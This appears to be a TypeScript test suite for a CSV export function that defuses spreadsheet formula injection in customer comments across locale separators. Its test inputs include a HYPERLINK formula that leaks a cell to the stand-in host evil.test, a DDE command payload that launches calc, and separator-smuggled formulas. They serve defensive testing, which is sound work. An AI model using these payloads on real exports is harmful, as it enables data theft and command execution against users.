import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { csvCell, toCsv } from '../../../demo/server/stats/csv.js';

/**
 * Splits CSV text the way a spreadsheet with `separator` as its list separator does: a quote
 * groups only where it opens a field, `""` inside a group is a quote, and a line break outside a
 * group ends the row. The tests check what a user in that locale would see.
 */
function openWith(csv: string, separator: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < csv.length; i++) {
    const ch = csv[i]!;
    if (quoted) {
      if (ch === '"' && csv[i + 1] === '"') (cell += '"'), i++;
      else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"' && cell === '') quoted = true;
    else if (ch === separator) row.push(cell), (cell = '');
    else if (ch === '\r' || ch === '\n') {
      if (ch === '\r' && csv[i + 1] === '\n') i++;
      row.push(cell), rows.push(row), (row = []), (cell = '');
    } else cell += ch;
  }
  if (cell !== '' || row.length > 0) row.push(cell), rows.push(row);
  return rows;
}

/** Cells a spreadsheet would evaluate: a formula start, except plain numbers such as a negative NPS. */
const formulaCells = (rows: string[][]) => rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell));

// Comments a shopper could type, each aiming at a locale whose separator is not ours.
const attacks = [
  'x;=HYPERLINK("http://evil.test/?d="&A1,"click")',
  'x;=1+1;y',
  "x; =cmd|' /C calc'!A0",
  'x;"=1+1";y',
  'x\t=1+1',
  'x,@SUM(1+1)',
  'first line\n=1+1',
  'first line\r\n-1+1',
];

describe('CSV export in every common locale', () => {
  it('leaves no formula cell whether opened with `,`, `;` or tab as the separator (security review)', () => {
    const csv = toCsv(['createdAt', 'store', 'comment', 'nps'], attacks.map((text) => ['2026-11-23', '042', text, -5]));
    for (const separator of [',', ';', '\t']) {
      assert.deepEqual(formulaCells(openWith(csv, separator)), [], `opened with ${JSON.stringify(separator)}`);
    }
    // With our own separator every row has its four cells and the comment reads as typed, behind `'`s.
    const rows = openWith(csv, ',');
    assert.ok(rows.slice(1).every((row) => row.length === 4));
    assert.deepEqual(
      rows.slice(1).map((row) => row[2]),
      attacks.map((text) => text.replace(/([,;\t\r\n][ "]*)(?=[=+\-@])/g, "$1'")),
    );
  });

  it('quotes every separator, quote and line break, and defuses a leading formula', () => {
    assert.equal(csvCell('a\tb'), '"a\tb"');
    assert.equal(csvCell('a;b'), '"a;b"');
    assert.equal(csvCell('x;=1+1'), `"x;'=1+1"`);
    assert.equal(csvCell('=1+1'), "'=1+1");
    assert.equal(csvCell('\t=1+1'), `"'\t'=1+1"`);
    assert.equal(csvCell('Good; great staff, 5 stars'), '"Good; great staff, 5 stars"');
    assert.equal(csvCell('plain text'), 'plain text');
    assert.equal(csvCell(-12.5), '-12.5');
  });
});

describe('csvCell fast path', () => {
  /** The rule as three regular expressions on every cell, as it was written before plain cells skipped it. */
  const reference = (value: string): string => {
    const defused = value.replace(/([,;\t\r\n][ "]*)(?=[=+\-@])/g, "$1'");
    const text = /^[=+\-@\t\r]/.test(defused) ? `'${defused}` : defused;
    return /[",;\t\r\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text;
  };

  it('writes every text of up to four characters from the special ones exactly as the full rule does', () => {
    const alphabet = ['=', '+', '-', '@', '\t', '\r', '\n', ',', ';', '"', ' ', "'", 'a', 'ö'];
    let texts = [''];
    let checked = 0;
    for (let length = 0; length <= 4; length++) {
      for (const text of texts) {
        assert.equal(csvCell(text), reference(text), JSON.stringify(text));
        checked++;
      }
      texts = texts.flatMap((text) => alphabet.map((ch) => text + ch));
    }
    assert.equal(checked, 1 + 14 + 14 ** 2 + 14 ** 3 + 14 ** 4);
  });

  it('leaves plain cells alone and defuses a formula start without a separator', () => {
    assert.equal(csvCell('00000000-0000-4000-8000-000000000001'), '00000000-0000-4000-8000-000000000001');
    assert.equal(csvCell('2026-03-01T09:00:00.000Z'), '2026-03-01T09:00:00.000Z');
    assert.equal(csvCell(''), '');
    assert.equal(csvCell('-1+1'), "'-1+1");
    assert.equal(csvCell('@kassan ✓'), "'@kassan ✓");
    assert.equal(csvCell("it's fine"), "it's fine");
  });
});
